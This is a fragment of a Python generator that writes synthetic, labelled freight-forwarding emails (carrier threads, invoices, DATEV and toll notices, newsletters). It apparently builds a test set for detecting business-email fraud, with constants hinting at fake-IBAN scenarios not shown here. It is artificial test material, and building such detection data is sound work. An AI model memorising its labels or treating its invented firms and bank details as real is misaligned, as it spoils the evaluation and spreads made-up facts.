    for o in offers:
        oid = f"FP-77{R.randint(10000, 99999)}"
        items.append((o, f"https://app.frachtpilot.example/angebote/{oid}?src=alert&sa={sa}"))
    unsub = f"https://app.frachtpilot.example/suchauftraege/{sa}/abbestellen?t={alnum(24)}"
    plain = (f"Hallo Frau Brückner,\n\nfür Ihren Suchauftrag „{route}“ gibt es {len(offers)} neue Ladungsangebote:\n\n"
             + "\n\n".join(f"• {o}\n  Angebot ansehen: {u}" for o, u in items)
             + f"\n\nAlle Angebote: https://app.frachtpilot.example/angebote?sa={sa}\nSuchauftrag bearbeiten: https://app.frachtpilot.example/suchauftraege/{sa}\n\n"
             f"Sie erhalten diese E-Mail, weil Sie für Ihren Suchauftrag E-Mail-Benachrichtigungen aktiviert haben. Abbestellen: {unsub}\n\n"
             "FrachtPilot GmbH · Speditionstraße 21 · 40221 Düsseldorf · HRB 91234 · www.frachtpilot.example")
    html = ('<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head><body style="margin:0;background:#eef2f5">'
            '<table width="600" align="center" style="background:#fff;font-family:Arial,sans-serif;font-size:14px;color:#1c2b39"><tr><td style="background:#0a5c8c;padding:14px 20px">'
            '<img src="https://cdn.frachtpilot.example/mail/logo-white.png" alt="FrachtPilot" height="26"></td></tr><tr><td style="padding:20px">'
            f"<p>Hallo Frau Brückner,</p><p>für Ihren Suchauftrag <b>{H.escape(route)}</b> gibt es {len(offers)} neue Ladungsangebote:</p>"
            + "".join(f'<p style="border-left:3px solid #0a5c8c;padding-left:10px">{H.escape(o)}<br><a href="{u}">Angebot ansehen</a></p>' for o, u in items)
            + f'<p><a href="https://app.frachtpilot.example/angebote?sa={sa}" style="background:#f39200;color:#fff;padding:9px 16px;text-decoration:none;border-radius:3px">Alle Angebote</a></p>'
            f'</td></tr><tr><td style="padding:12px 20px;font-size:11px;color:#7b8a97">FrachtPilot GmbH · Speditionstraße 21 · 40221 Düsseldorf<br><a href="{unsub}">Abbestellen</a></td></tr></table></body></html>')
    return notice(fp, "ses", t, f"{len(offers)} neue Ladungsangebote: {route}", plain, html, label=label, scen=scen,
                  extra=[("List-Unsubscribe", f"<{unsub}>"), ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
                         ("Feedback-ID", f"::1.eu-central-1.{alnum(43)}=:AmazonSES"), ("X-SES-Outgoing", f"{t.astimezone(UTC):%Y.%m.%d}-54.240.7.14")])


def fp_invoice(t, month, no, amount, label=None, scen=None):
    plain = (f"Guten Tag,\n\nanbei erhalten Sie Ihre Rechnung {no} für {month} (Kundennummer 204417, Rheinport Spedition GmbH).\n\n"
             f"Rechnungsbetrag: {amount} EUR (inkl. 19 % USt.)\nDer Betrag wird per SEPA-Lastschrift zum Fälligkeitsdatum von Ihrem Konto eingezogen.\n\n"
             "Alle Rechnungen finden Sie jederzeit in Ihrem Konto: https://app.frachtpilot.example/konto/rechnungen\n\nIhr FrachtPilot-Team\n\n"
             "FrachtPilot GmbH · Speditionstraße 21 · 40221 Düsseldorf · USt-IdNr. DE318442107 · HRB 91234 · GF: Jan Weskamp, Dr. Lea Fink")
    html = ('<html><body style="font-family:Arial,sans-serif;font-size:14px">' + esc(plain).replace("https://app.frachtpilot.example/konto/rechnungen",
            '<a href="https://app.frachtpilot.example/konto/rechnungen">https://app.frachtpilot.example/konto/rechnungen</a>') + "</body></html>")
    att = [(f"{no}.pdf", pdf([f"FrachtPilot GmbH - Rechnung {no}", "Kunde 204417 Rheinport Spedition GmbH", f"Leistungszeitraum {month}",
                              "Lizenz FrachtPilot Business (2 Nutzer)", f"Gesamt {amount} EUR"], producer="wkhtmltopdf 0.12.6", when=t.strftime("%Y%m%d%H%M%S"), zone="Z"),
            "application/pdf")]
    return notice(fpbill, "ses", t, f"Ihre FrachtPilot-Rechnung {no}", plain, html, atts=att, label=label, scen=scen,
                  extra=[("Feedback-ID", f"::1.eu-central-1.{alnum(43)}=:AmazonSES"), ("X-SES-Outgoing", f"{t.astimezone(UTC):%Y.%m.%d}-54.240.7.14")])


def datev_note(t, n, label=None, scen=None):
    link = f"https://duo.datev.example/belegfreigabe/mandant/48211-10415/aufgaben?id={ruuid()}"
    plain = (f"Guten Tag Frau Brückner,\n\nin DATEV Unternehmen online liegen {n} neue Eingangsrechnungen zur sachlichen Freigabe für Sie bereit "
             f"(Mandant 10415 Rheinport Spedition GmbH, Kanzlei-Nr. 48211).\n\nZur Freigabe: {link}\n\nDie Anmeldung erfolgt wie gewohnt mit DATEV SmartLogin "
             "oder SmartCard.\n\nDiese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.\n\nDATEV eG · Paumgartnerstr. 6-14 · 90429 Nürnberg")
    html = ('<html><body style="font-family:Arial,sans-serif;font-size:13px;color:#222"><p style="color:#006a3a;font-size:16px"><b>DATEV Unternehmen online</b></p>'
            + esc(plain.split("\n\nZur Freigabe")[0]) + f'<p><a href="{link}" style="color:#006a3a">Zur Freigabe</a></p>'
            + '<p style="font-size:11px;color:#777">Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.<br>DATEV eG · Paumgartnerstr. 6-14 · 90429 Nürnberg</p></body></html>')
    return notice(datev, "datev", t, f"DATEV Unternehmen online: {n} Belege zur Freigabe", plain, html, label=label, scen=scen,
                  extra=[("Auto-Submitted", "auto-generated"), ("X-Auto-Response-Suppress", "All")])


def newsletter(t, kw, topics):
    unsub = f"https://news.logistik-kompass.example/abmelden?u={alnum(20)}&l=4"
    links = [(tp, f"https://www.logistik-kompass.example/nachrichten/{R.randint(41000, 49999)}-{tp.lower().replace(' ', '-').replace(':', '')[:40]}?utm_source=newsletter&utm_medium=email&utm_campaign=kw{kw}") for tp in topics]
    plain = (f"Logistik-Kompass | Der Newsletter für Transport und Spedition | KW {kw}\n\n" + "\n\n".join(f"{a}\n{u}" for a, u in links)
             + f"\n\n---\nSie erhalten diesen Newsletter an m.brueckner@{OWN}. Abmelden: {unsub}\nLogistik-Kompass Fachverlag GmbH · Hamburg · HRB 132 554")
    html = ('<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f4f4f4"><table width="640" align="center" style="background:#fff;font-family:Georgia,serif">'
            f'<tr><td style="padding:18px;border-bottom:3px solid #b5121b"><img src="https://news.logistik-kompass.example/img/kopf.png" alt="Logistik-Kompass" width="240"><br>KW {kw}</td></tr>'
            + "".join(f'<tr><td style="padding:12px 18px"><a href="{u}" style="color:#b5121b;font-size:17px;text-decoration:none">{H.escape(a)}</a></td></tr>' for a, u in links)
            + f'<tr><td style="padding:18px;font-size:11px;color:#888;font-family:Arial">Logistik-Kompass Fachverlag GmbH · Hamburg<br><a href="{unsub}">Abmelden</a>'
            f'<img src="https://news.logistik-kompass.example/o/{alnum(16)}.gif" width="1" height="1"></td></tr></table></body></html>')
    return notice(news, "nl", t, f"Logistik-Kompass KW {kw}: {topics[0]}", plain, html,
                  extra=[("List-Unsubscribe", f"<{unsub}>, <mailto:abmelden@logistik-kompass.example>"), ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
                         ("Precedence", "bulk"), ("X-CSA-Complaints", "csa-complaints@eco.de"), ("X-Mailer", "CR-Mailer 7.4")])


def maut_note(t, month):
    link = f"https://kundenportal.maut-service-portal.example/dokumente?typ=efn&periode={month.replace('/', '-')}"
    plain = (f"Sehr geehrte Damen und Herren,\n\nder Einzelfahrtennachweis und die Mautaufstellung für den Zeitraum {month} stehen in Ihrem Kundenportal bereit "
             f"(Kunden-Nr. 3001847215, Rheinport Spedition GmbH, 14 Fahrzeuge).\n\nDokumente abrufen: {link}\n\nAus Sicherheitsgründen versenden wir keine Anhänge.\n\n"
             "Mit freundlichen Grüßen\nIhr Maut-Service\n\nDiese E-Mail wurde automatisch versendet.")
    html = '<html><body style="font-family:Arial;font-size:13px">' + esc(plain).replace(link, f'<a href="{link}">{link}</a>') + "</body></html>"
    return notice(maut, "maut", t, f"Ihr Einzelfahrtennachweis {month} steht bereit", plain, html, extra=[("Auto-Submitted", "auto-generated")])


LIST_FOOT = ("\n\n_______________________________________________\nAK-Dispo -- Arbeitskreis Disposition im VLNR e.V.\nak-dispo@lists.vlnr.example\n"
             "Abmelden: ak-dispo-leave@lists.vlnr.example\nArchiv: https://lists.vlnr.example/archives/list/ak-dispo@lists.vlnr.example/")


def list_extra(m):
    return [("Message-ID-Hash", alnum(32).upper()), ("X-Message-ID-Hash", alnum(32).upper()), ("X-MailFrom", "ak-dispo-bounces@lists.vlnr.example"),
            ("X-Mailman-Rule-Hits", "nonmember-moderation") if False else ("X-Mailman-Rule-Misses", "dmarc-mitigation; no-senders; approved; emergency; loop; banned-address; member-moderation; header-match-ak-dispo.lists.vlnr.example-0; nonmember-moderation; administrivia; implicit-dest; max-recipients; max-size; news-moderation; no-subject; digests; suspicious-header"),
            ("X-Mailman-Version", "3.3.9"), ("Precedence", "list"), ("List-Id", "AK-Dispo <ak-dispo.lists.vlnr.example>"),
            ("Archived-At", f"<https://lists.vlnr.example/archives/list/ak-dispo@lists.vlnr.example/message/{alnum(32).upper()}/>"),
            ("List-Archive", "<https://lists.vlnr.example/archives/list/ak-dispo@lists.vlnr.example/>"), ("List-Help", "<mailto:ak-dispo-request@lists.vlnr.example?subject=help>"),
            ("List-Owner", "<mailto:ak-dispo-owner@lists.vlnr.example>"), ("List-Post", "<mailto:ak-dispo@lists.vlnr.example>"),
            ("List-Subscribe", "<mailto:ak-dispo-join@lists.vlnr.example>"), ("List-Unsubscribe", "<mailto:ak-dispo-leave@lists.vlnr.example>")]


def iban(cc, bban):
    n = "".join(str(int(c, 36)) for c in (bban + cc + "00"))
    return f"{cc}{98 - int(n) % 97:02d}{bban}"


def iban_fmt(s): return " ".join(s[i:i + 4] for i in range(0, len(s), 4))


IBAN_TP_OLD = iban_fmt(iban("PL", "10901362" + "0000000147258811"))
IBAN_TP_FAKE = iban_fmt(iban("PL", "11402004" + "0000390281447301"))
IBAN_TC_OLD = iban_fmt(iban("RO", "BTRL" + "02101202K44871XX"))
IBAN_TC_NEW = iban_fmt(iban("RO", "INGB" + "0000999912047731"))


def order_pdf(no, lines, when):
    return (f"Transportauftrag_{no}.pdf", pdf([f"Rheinport Spedition GmbH - Transportauftrag {no}", "Logport I, Hohenbudberger Str. 22, 47229 Duisburg"] + lines
                                              + ["Es gelten die ADSp 2017 sowie die CMR.", "Disposition: Melanie Brückner, Tel. +49 2065 555-214"],
                                              producer="DISPOnova 9.3 PDF-Export", when=when, title=f"Transportauftrag {no}"), "application/pdf")


SP_VERHOEVEN = f"https://verhoeventransport.sharepoint.com/:f:/s/Planning/EmR4cT1x{alnum(30)}?e={alnum(6)}"
SP_VERHOEVEN2 = f"https://verhoeventransport.sharepoint.com/:f:/s/Planning/Ek3vQ9dL{alnum(30)}?e={alnum(6)}"

# ================================================================ T1 Schürmann: coils to Venlo (Sep 2024)
t1 = Thread("T1", joerg, "Transportanfrage KW 38: 3 Coils Duisburg-Hochfeld nach Venlo")
t1.add(joerg, "Hallo Frau Brückner,\n\nwir hätten in KW 38 drei Coils (je ca. 23,5 t, warmgewalzt, Breite 1.500 mm) von unserem Lager Hochfeld nach Venlo "
       "(Staalservice Limburg B.V., Trade Port Noord) zu fahren. Ladezeit Dienstag, 17.09., ab 07:00, Anlieferung am selben Tag bis 14:00.\n\n"
       "Benötigt werden Sattel mit Coilmulde, Kantenschutz und Antirutschmatten; Ladungssicherung nach VDI 2700 wie gehabt.\n\n"
       "Können Sie uns ein Angebot machen?", at(2024, 9, 13, 8, 12))
t1.add(me, "Hallo Herr Brinkmann,\n\ngerne: 3 Fahrzeuge mit Coilmulde, je 640,00 € netto, Kantenschutz und Antirutschmatten inklusive. Die Ausführung "
       "übernimmt unser niederländischer Partner, dessen Fahrer Ihre Rampe schon kennen.\n\nBitte schicken Sie mir den Auftrag mit den Ladereferenzen.",
       at(2024, 9, 13, 10, 40))
t1.add(joerg, "Passt, hiermit beauftragt. Ladereferenzen LA-24-3381, LA-24-3382 und LA-24-3383; die Lieferscheine liegen an der Waage.\n"
       "Bitte die Kennzeichen bis Montagmittag.", at(2024, 9, 13, 11, 52))
t1.add(me, "Hallo Herr Brinkmann,\n\ndie Kennzeichen: VZ-412-K, VZ-388-K und BT-77-RN (Verhoeven Transport, Venlo). Die Fahrer melden sich ab 06:45 an der Waage.",
       at(2024, 9, 16, 11, 5))
t1.add(joerg, "Alle drei Coils sind in Venlo abgeladen, der Kunde hat ohne Vorbehalt quittiert. Danke für die schnelle Abwicklung!", at(2024, 9, 17, 15, 31))

# ================================================================ T2 Verhoeven: coil trailers week 38 (first SharePoint link)
t2 = Thread("T2", marloes, "Trailer request week 38 - 3 coil loads Duisburg to Venlo")
t2.add(me, "Hi Marloes,\n\ncould you take three coil loads on Tuesday 17/09 from Schürmann Stahlhandel in Duisburg-Hochfeld to Venlo (Staalservice "
       "Limburg, Trade Port Noord)? Loading from 07:00, 23.5 t each, coil-well trailers needed. Rate as usual, 540 EUR per truck.\n\nThanks!",
       at(2024, 9, 13, 10, 55))
t2.add(marloes, "Hi Melanie,\n\nyes, we can do it. Plates: VZ-412-K, VZ-388-K and BT-77-RN, all coil well. The drivers will be at the gate at 06:45.\n\n"
       "We'll put the CMRs in a shared folder after delivery, that's easier than mailing scans.", at(2024, 9, 13, 13, 20))
t2.add(me, "Perfect, thank you. Booked under our order 24-10311.", at(2024, 9, 13, 13, 41))
t2.add(marloes, "Hi Melanie,\n\nall three delivered, CMRs signed without remarks. The scans are in this folder:\n" + SP_VERHOEVEN + "\n\n"
       "We'll use the same folder for all Rheinport orders from now on, with a subfolder per month.", at(2024, 9, 17, 16, 5), GH,
       scen=("G16b", "haulier's first SharePoint folder link with the CMR scans (announced two messages earlier)"))
t2.add(me, "Got them, thanks. Bookmarked.", at(2024, 9, 18, 8, 10))

# ================================================================ T13 Trans-Pol: capacity Sep/Oct
t13 = Thread("T13", marek, "Kapazität Duisburg - Poznań, September/Oktober")
t13.add(marek, "Guten Tag Frau Brückner,\n\nwir haben in September und Oktober wieder freie Kapazität für Touren Duisburg - Poznań / Wrocław, 2-3 LKW pro Woche "
        "(Plane, 13,6 m, 24 t, Mega auch möglich). Preis wie letztes Jahr, 1.150 EUR Duisburg - Poznań.\n\nBitte geben Sie Bescheid, wenn Sie Ladung haben.",
        at(2024, 9, 9, 8, 15, WAW))
t13.add(me, "Hallo Herr Dąbrowski,\n\nsehr gut, danke. Für KW 38 hätte ich zwei Ladungen Duisburg - Poznań (Baustoffe, je ca. 22 t), Dienstag und Donnerstag. "
        "Preis 1.150 € passt.", at(2024, 9, 9, 10, 2))
t13.add(marek, "Ok, zwei LKW für Dienstag und Donnerstag sind eingeplant. Kennzeichen PO 4KX21 und PO 7LM35, Fahrer Tomasz und Paweł, "
        "Telefon von die Fahrer kommt Montag.", at(2024, 9, 9, 11, 40, WAW))
t13.add(me, "Danke! Unsere Auftragsnummern sind 24-10288 und 24-10301, die Transportaufträge kommen wie immer separat aus dem TMS.", at(2024, 9, 9, 12, 5))
t13.add(marek, "Dzień dobry Pani Melanio,\n\nprzepraszam, że piszę po polsku, bardzo się spieszę: oba auta na przyszły tydzień potwierdzone, PO 4KX21 "
        "we wtorek, PO 9RT04 w czwartek (zamiast PO 7LM35 - auto jest w serwisie). Kierowcy mają numery zleceń.\n\n(Kurz auf Deutsch: beide LKW "
        "nächste Woche bestätigt, am Donnerstag anderes Kennzeichen PO 9RT04.)", at(2024, 9, 24, 9, 20, WAW), GH,
        scen=("G27", "Polish haulier's dispatcher answers in Polish (with a German line) in a German thread"))
t13.add(me, "Danke, Herr Dąbrowski - das neue Kennzeichen habe ich im TMS geändert.", at(2024, 9, 24, 9, 48))
t13.add(marek, "Guten Tag, für Oktober haben wir noch 3 freie LKW in KW 43, wenn Sie brauchen.", at(2024, 10, 14, 8, 55, WAW))
t13.add(me, "Danke, in KW 43 brauche ich einen, Donnerstag 24.10., Ladung Logport I nach Poznań. Der Auftrag kommt über das TMS.", at(2024, 10, 14, 10, 20))
t13.add(marek, "Gut, Donnerstag ist eingeplant, PO 4KX21.", at(2024, 10, 14, 11, 3, WAW))

# ================================================================ T7 Weidner: ADR shipment to Antwerp (Oct 2024)
t7 = Thread("T7", claudia, "ADR-Transport UN 1263 Farbe, 18 Pal. nach Antwerpen - KW 42")
t7.add(claudia, "Sehr geehrte Frau Brückner,\n\nwir benötigen für Mittwoch, 16.10., einen Transport von 18 Paletten Farbe (UN 1263, Klasse 3, VG III, ca. 9,8 t brutto) "
       "von unserem Werk Krefeld-Uerdingen zu Ostland Coatings NV, Antwerpen (Haven 1120). Das Fahrzeug muss ADR-ausgerüstet sein, Fahrer mit ADR-Basisschein.\n\n"
       "Bitte um Ihr Angebot.", at(2024, 10, 7, 9, 25), cc=[(jansen.disp, jansen.email)])
t7.add(me, "Sehr geehrte Frau Reuter,\n\ngerne: 1 ADR-Planensattel, 680,00 € netto. Fahrer mit ADR-Schein, 2 Feuerlöscher à 6 kg, orangefarbene Warntafeln. "
       "Können Sie uns die Sicherheitsdatenblätter vorab schicken?", at(2024, 10, 7, 11, 10), to=[(claudia.disp, claudia.email)], cc=[(jansen.disp, jansen.email)])
t7.add(jansen, "Sehr geehrte Frau Brückner,\n\nergänzend zu Frau Reuter: Tunnelbeschränkungscode (D/E). Die Route durch den Kennedytunnel ist damit nicht zulässig, "
       "bitte über den Liefkenshoektunnel planen. Die Beförderungspapiere erstellen wir, der Fahrer bekommt sie bei der Verladung.",
       at(2024, 10, 7, 13, 2), cc=[(claudia.disp, claudia.email)])
t7.add(claudia, "Sehr geehrte Frau Brückner,\n\ndie Sicherheitsdatenblätter (4 Produkte) habe ich Ihnen über unser Austauschportal bereitgestellt, das Passwort "
       "bekommen Sie per SMS an die Mobilnummer aus Ihrer Signatur:\nhttps://transfer.weidner-chemie.example/s/Kq8ZtW3fLmRx\nDer Link ist 14 Tage gültig.\n\n"
       "Den Auftrag zu 680,00 € bestätige ich hiermit.", at(2024, 10, 8, 8, 47), GH, cc=[(jansen.disp, jansen.email)],
       scen=("G18", "shipper links the safety data sheets on its own file-transfer portal (password by SMS)"))
t7.add(me, "Danke, die Dokumente sind heruntergeladen. Unser Auftrag 24-10690; Fahrzeug und Fahrer gebe ich Ihnen morgen durch.", at(2024, 10, 8, 9, 30),
       to=[(claudia.disp, claudia.email)])
t7.add(claudia, "Die Sendung ist ohne Beanstandung in Antwerpen angekommen. Vielen Dank.", at(2024, 10, 16, 15, 10))

# ================================================================ T3 Schürmann: coil-edge complaint (Oct 2024, revived Mar 2025)
t3 = Thread("T3", joerg, "Reklamation Lieferung 24-10552 - Kantenschaden Coil 4471")
t3.add(joerg, "Hallo Frau Brückner,\n\nunser Kunde Staalservice Limburg reklamiert beim Coil 4471 aus der Lieferung vom 07.10. (Ihr Auftrag 24-10552) einen "
       "Kantenschaden an der Außenwindung, ca. 40 cm. Fotos anbei. Der Kunde will die ersten zwei Windungen abwickeln und uns 850 € berechnen.\n\n"
       "Können Sie bitte beim Frachtführer klären, ob beim Abladen etwas aufgefallen ist? Auf dem CMR steht nichts.", at(2024, 10, 8, 9, 2),
       atts=[("Coil4471_Kante_1.jpg", jpeg("Apple", "iPhone 13", "2024:10:08 08:41:12", 60), "image/jpeg"),
             ("Coil4471_Kante_2.jpg", jpeg("Apple", "iPhone 13", "2024:10:08 08:41:40", 55), "image/jpeg")])
t3.add(me, "Hallo Herr Brinkmann,\n\ndanke für die Fotos. Ich habe Verhoeven um eine Stellungnahme des Fahrers gebeten und melde mich.", at(2024, 10, 8, 10, 15))
t3.add(joerg, "Danke. Unser Kunde wartet mit der Bearbeitung bis Freitag.", at(2024, 10, 8, 10, 40))
t3.add(me, "Hallo Herr Brinkmann,\n\nder Fahrer (VZ-388-K) sagt, der Kantenschutz war an allen Coils angebracht; das Coil wurde in Venlo mit dem Kran des Kunden "
       "abgehoben. Auf dem CMR ist bei der Ablieferung kein Vorbehalt vermerkt. Das Foto vom Beladezustand anbei.\n\nIch schlage vor, dass wir die 850 € "
       "nicht anerkennen, solange der Kunde keinen Vorbehalt nachweisen kann.", at(2024, 10, 10, 14, 22),
       atts=[("IMG_20241007_131544.jpg", jpeg("samsung", "SM-A546B", "2024:10:07 13:15:44", 70), "image/jpeg")])
t3.add(joerg, "Hallo Frau Brückner,\n\nich habe das so weitergegeben. Der Kunde hat den Betrag zurückgezogen, wir betrachten die Sache als erledigt. "
       "Danke für die schnelle Klärung.", at(2024, 10, 11, 8, 37))

# ================================================================ T24 TransCarpatia: weekly groupage to Arad
IOS = "\n\nGet Outlook for iOS"
t24 = Thread("T24", mihai, "Groupage Duisburg - Arad, weekly departures")
t24.add(mihai, "Hello Melanie,\n\nas discussed on the phone, we start the weekly groupage line Duisburg - Arad/Timișoara from week 41: loading Thursday in "
        "Duisburg, delivery Monday/Tuesday in Arad and Timișoara. Rate 1,450 EUR per full truck, groupage 95 EUR per pallet place.\n\n"
        "Please send us your loads by Wednesday noon. You can always reach me on my mobile +40 744 555 318.\n\nBest regards,\nMihai", at(2024, 10, 1, 19, 40, BUC),
        sigtext=IOS)
t24.add(me, "Hello Mihai,\n\ngreat, thank you. For week 41 I have 8 pallets for Arad (machine parts, 3.2 t) and 4 pallets for Timișoara. "
        "Booking by Wednesday noon is fine.", at(2024, 10, 2, 9, 0))
t24.add(mihai, "Perfect, booked. Truck AR 22 TCP, driver Florin. Loading Thursday 10:00 at your warehouse.", at(2024, 10, 2, 21, 15, BUC), sigtext=IOS)
t24.add(me, "Thanks, see you Thursday.", at(2024, 10, 3, 7, 55))
t24.add(mihai, "Good morning, delivered Arad at 5:20 (the receiver opens early). Signed CMR attached. Timișoara at 9:00.", at(2024, 10, 14, 5, 41, BUC),
        GH, sigtext=IOS, scen=("G30", "haulier's owner sends a CMR photo from his phone at 05:41 local time"),
        atts=[("IMG_4471.jpg", jpeg("Apple", "iPhone 14 Pro", "2024:10:14 05:38:02", 80), "image/jpeg")])
t24.add(me, "Thank you Mihai!", at(2024, 10, 14, 8, 10))
t24.add(mihai, "Hello Melanie, from week 46 the loading day changes to Wednesday because of a new customer in Timișoara. Is this ok for you?",
        at(2024, 11, 5, 20, 30, BUC), sigtext=IOS)
t24.add(me, "Wednesday is fine for us, Mihai.", at(2024, 11, 6, 8, 20))

# ================================================================ T29 Schäfer (GMX): container haulage
t29 = Thread("T29", dirk, "Containerabholung DIT - KW 42")
t29.add(me, "Hallo Herr Schäfer,\n\nkönnen Sie diese Woche zwei Container für uns vom DIT zu Weidner Chemie nach Krefeld-Uerdingen fahren? 40' HC, MSCU 4410283 "
        "und MSCU 4410300, Freistellung liegt vor, Slot Mittwoch 10:00 und Donnerstag 10:00. Leercontainer zurück zum DIT.", at(2024, 10, 14, 8, 30))
t29.add(dirk, "Hallo Frau Brückner,\n\nja, mache ich. Mittwoch und Donnerstag je 10 Uhr am DIT, Krefeld dann gegen 11:30. Wie immer 285 € pro Container "
        "inkl. Leerrückführung.\n\nGruß Dirk Schäfer", at(2024, 10, 14, 12, 10))
t29.add(me, "Super, danke. Die Pin-Nummern für das Terminal: 7718 und 7721.", at(2024, 10, 14, 12, 40))
t29.add(dirk, "Beide Container zugestellt, Leercontainer sind zurück. Rechnung kommt Ende des Monats.\n\nGruß Dirk Schäfer", at(2024, 10, 17, 15, 40))

# ================================================================ T21 Verhoeven: CMR scans
t21 = Thread("T21", marloes, "CMR scans October - Rheinport orders")
t21.add(me, "Hi Marloes,\n\nfor our month-end check I'm missing the CMRs of orders 24-10552, 24-10577 and 24-10610 (October). Could you upload them to the folder?",
        at(2024, 11, 4, 9, 30))
t21.add(marloes, "Hi Melanie,\n\nuploaded, all three are in the October subfolder:\n" + SP_VERHOEVEN2 + "\n\n24-10552 is the one with the coil complaint; "
        "the receiver's copy has no remarks.", at(2024, 11, 4, 11, 15), GH,
        scen=("G16", "haulier shares the CMR scans as a SharePoint folder link (as in earlier threads)"))
t21.add(me, "Perfect, thanks.", at(2024, 11, 4, 11, 40))
t21.add(marloes, "Hi Melanie,\n\nthe November CMRs are in the folder as well (same link as in September). 24-11590 is still missing, the driver brings the "
        "original on Wednesday.", at(2024, 12, 2, 9, 5))

# ================================================================ T10 Brandt: weekly pallets to Breda
t10 = Thread("T10", frank, "Palettentransporte Oberhausen - Breda ab KW 46")
t10.add(frank, "Hallo Frau Brückner,\n\nwie telefonisch besprochen: Ab KW 46 haben wir jeden Donnerstag ca. 20-26 Paletten Faltschachteln für Van Gelder Retail "
        "nach Breda. Ladezeit 07:00-09:00 bei uns im Lipperfeld, Anlieferung Freitag früh 06:00-10:00 (DC Breda, Minervum 7020).\n\n"
        "Können Sie mir einen Festpreis pro Tour nennen? Palettentausch ist nicht nötig, Einwegpaletten.", at(2024, 11, 4, 8, 40))
t10.add(me, "Hallo Herr Brandt,\n\nFestpreis 495,00 € netto pro Tour bis 26 Paletten, Planensattel, Anlieferung Freitag früh. Mehrmengen über 26 Stellplätze "
        "18 € je Palette.", at(2024, 11, 4, 11, 25))
t10.add(frank, "Passt. Die Tagesmengen schickt Frau Wolff jeweils mittwochs.", at(2024, 11, 4, 15, 10))
t10.add(tanja, "Hallo Frau Brückner,\n\nfür morgen 24 Paletten, Lieferscheine 88120-88124. Die Ware steht an Tor 2.", at(2024, 11, 13, 11, 20))
t10.add(me, "Danke, Frau Wolff, der Fahrer ist um 07:15 da.", at(2024, 11, 13, 11, 45), to=[(tanja.name, tanja.email)])
t10.add(tanja, "Morgen 26 Paletten, davon 2 mit Überhöhe (2,10 m). Geht das?", at(2024, 11, 20, 11, 5))
t10.add(me, "Geht, der Trailer hat 2,70 m Innenhöhe.", at(2024, 11, 20, 11, 30), to=[(tanja.name, tanja.email)])
t10.add(tanja, "Letzte Tour vor Weihnachten ist morgen: 21 Paletten. Im neuen Jahr geht es am 09.01. weiter. Frohe Feiertage!", at(2024, 12, 18, 10, 44))
t10.add(me, "Danke, Ihnen und dem ganzen Team auch frohe Feiertage!", at(2024, 12, 18, 11, 2), to=[(tanja.name, tanja.email)])

# ================================================================ T26 Brockhoff: export declaration Serbia (zip asked for, G6)
t26 = Thread("T26", katja, "Ausfuhr Serbien - Auftrag 24-11201 Schürmann, Ausfuhrunterlagen")
t26.add(me, "Hallo Frau Möller,\n\nfür die Sendung 24-11201 (Schürmann Stahlhandel, 2 Coils, 46 t, Empfänger Metalservis d.o.o., Novi Sad) bräuchte ich die "
        "Ausfuhranmeldung und das Ausfuhrbegleitdokument. Der Lkw von TransCarpatia lädt morgen um 07:00. Handelsrechnung und Packliste hat Schürmann Ihnen "
        "gestern geschickt. Können Sie mir alles zusammen als ZIP schicken? Unser Fahrer druckt unterwegs.", at(2024, 11, 6, 9, 10))
t26.add(katja, "Hallo Frau Brückner,\n\nanbei wie gewünscht die Unterlagen gezippt (ABD, Handelsrechnung, Packliste). MRN: 24DE440055123456E7.\n"
        "Der Fahrer muss das ABD an der Ausgangszollstelle Röszke (HU) vorlegen, bitte geben Sie ihm zwei Ausdrucke mit.", at(2024, 11, 6, 14, 40), GH,
        scen=("G6", "customs agent sends the zipped export documents that were asked for"),
        atts=[("Ausfuhr_24-11201_MRN_24DE440055123456E7.zip", zip_bytes([
            ("ABD_24DE440055123456E7.pdf", pdf(["Ausfuhrbegleitdokument (ABD)", "MRN 24DE440055123456E7", "Ausführer: Schürmann Stahlhandel GmbH, Duisburg",
                                                "Ausfuhrzollstelle DE004401 Duisburg", "Ausgangszollstelle HU301000 Röszke"], producer="ATLAS-Ausfuhr / dakosy", when="20241106141200")),
            ("Handelsrechnung_SR-24-8812.pdf", pdf(["Schürmann Stahlhandel GmbH - Commercial Invoice SR-24-8812", "2 Coils S355MC, 46.120 kg", "Incoterms FCA Duisburg"],
                                                   when="20241105101500")),
            ("Packliste_SR-24-8812.pdf", pdf(["Packing list SR-24-8812", "Coil 5120: 23.080 kg", "Coil 5121: 23.040 kg"], when="20241105101700"))],
            (2024, 11, 6, 14, 35, 0)), "application/x-zip-compressed")])
t26.add(me, "Danke, Frau Möller, ist ausgedruckt und beim Fahrer.", at(2024, 11, 6, 15, 5))
t26.add(katja, "Zur Info: Der Ausgangsvermerk ist heute eingegangen, die Ausfuhr ist damit erledigt.", at(2024, 11, 12, 10, 5))

# ================================================================ T17 Zawadzki (Gmail + KargoSnap): order 24-11873 (G1)
t17 = Thread("T17", piotr, "Zlecenie / Auftrag 24-11873 Duisburg - Łódź")
t17.add(me, "Hallo Herr Zawadzki,\n\nanbei der Transportauftrag 24-11873: Abholung Mittwoch 20.11., 08:00, Rheinport Lager Logport I, 12 Paletten Fliesenkleber "
        "(ca. 11 t), Zustellung Freitag 22.11. in Łódź, Budpol Hurtownia, ul. Brzezińska 27. Preis 980 EUR.\nBitte kurz bestätigen und nach der Zustellung "
        "den POD wie immer per App schicken.", at(2024, 11, 18, 14, 20),
        atts=[order_pdf("24-11873", ["Frachtführer: Zawadzki Transport, Łódź", "Abholung 20.11.2024 08:00 Logport I", "Zustellung 22.11.2024 Budpol Hurtownia, Łódź",
                                     "12 Paletten Fliesenkleber, 11.040 kg", "Fracht: 980,00 EUR"], "20241118141800")])
t17.add(piotr, "Dzień dobry Pani Melanie,\nok, potwierdzam / bestätigt. Mittwoch 8:00 Logport. Ciągnik EL 5R112, naczepa EL 8H04.\nPozdrawiam", at(2024, 11, 18, 18, 5, WAW))
t17.add(me, "Danke, Herr Zawadzki, bis Mittwoch.", at(2024, 11, 19, 8, 10))
KS_FOOT = ("\n\n--\nKargoSnap - Dokumente scannen und senden. Diese Nachricht wurde im Auftrag des Absenders über KargoSnap versendet; "
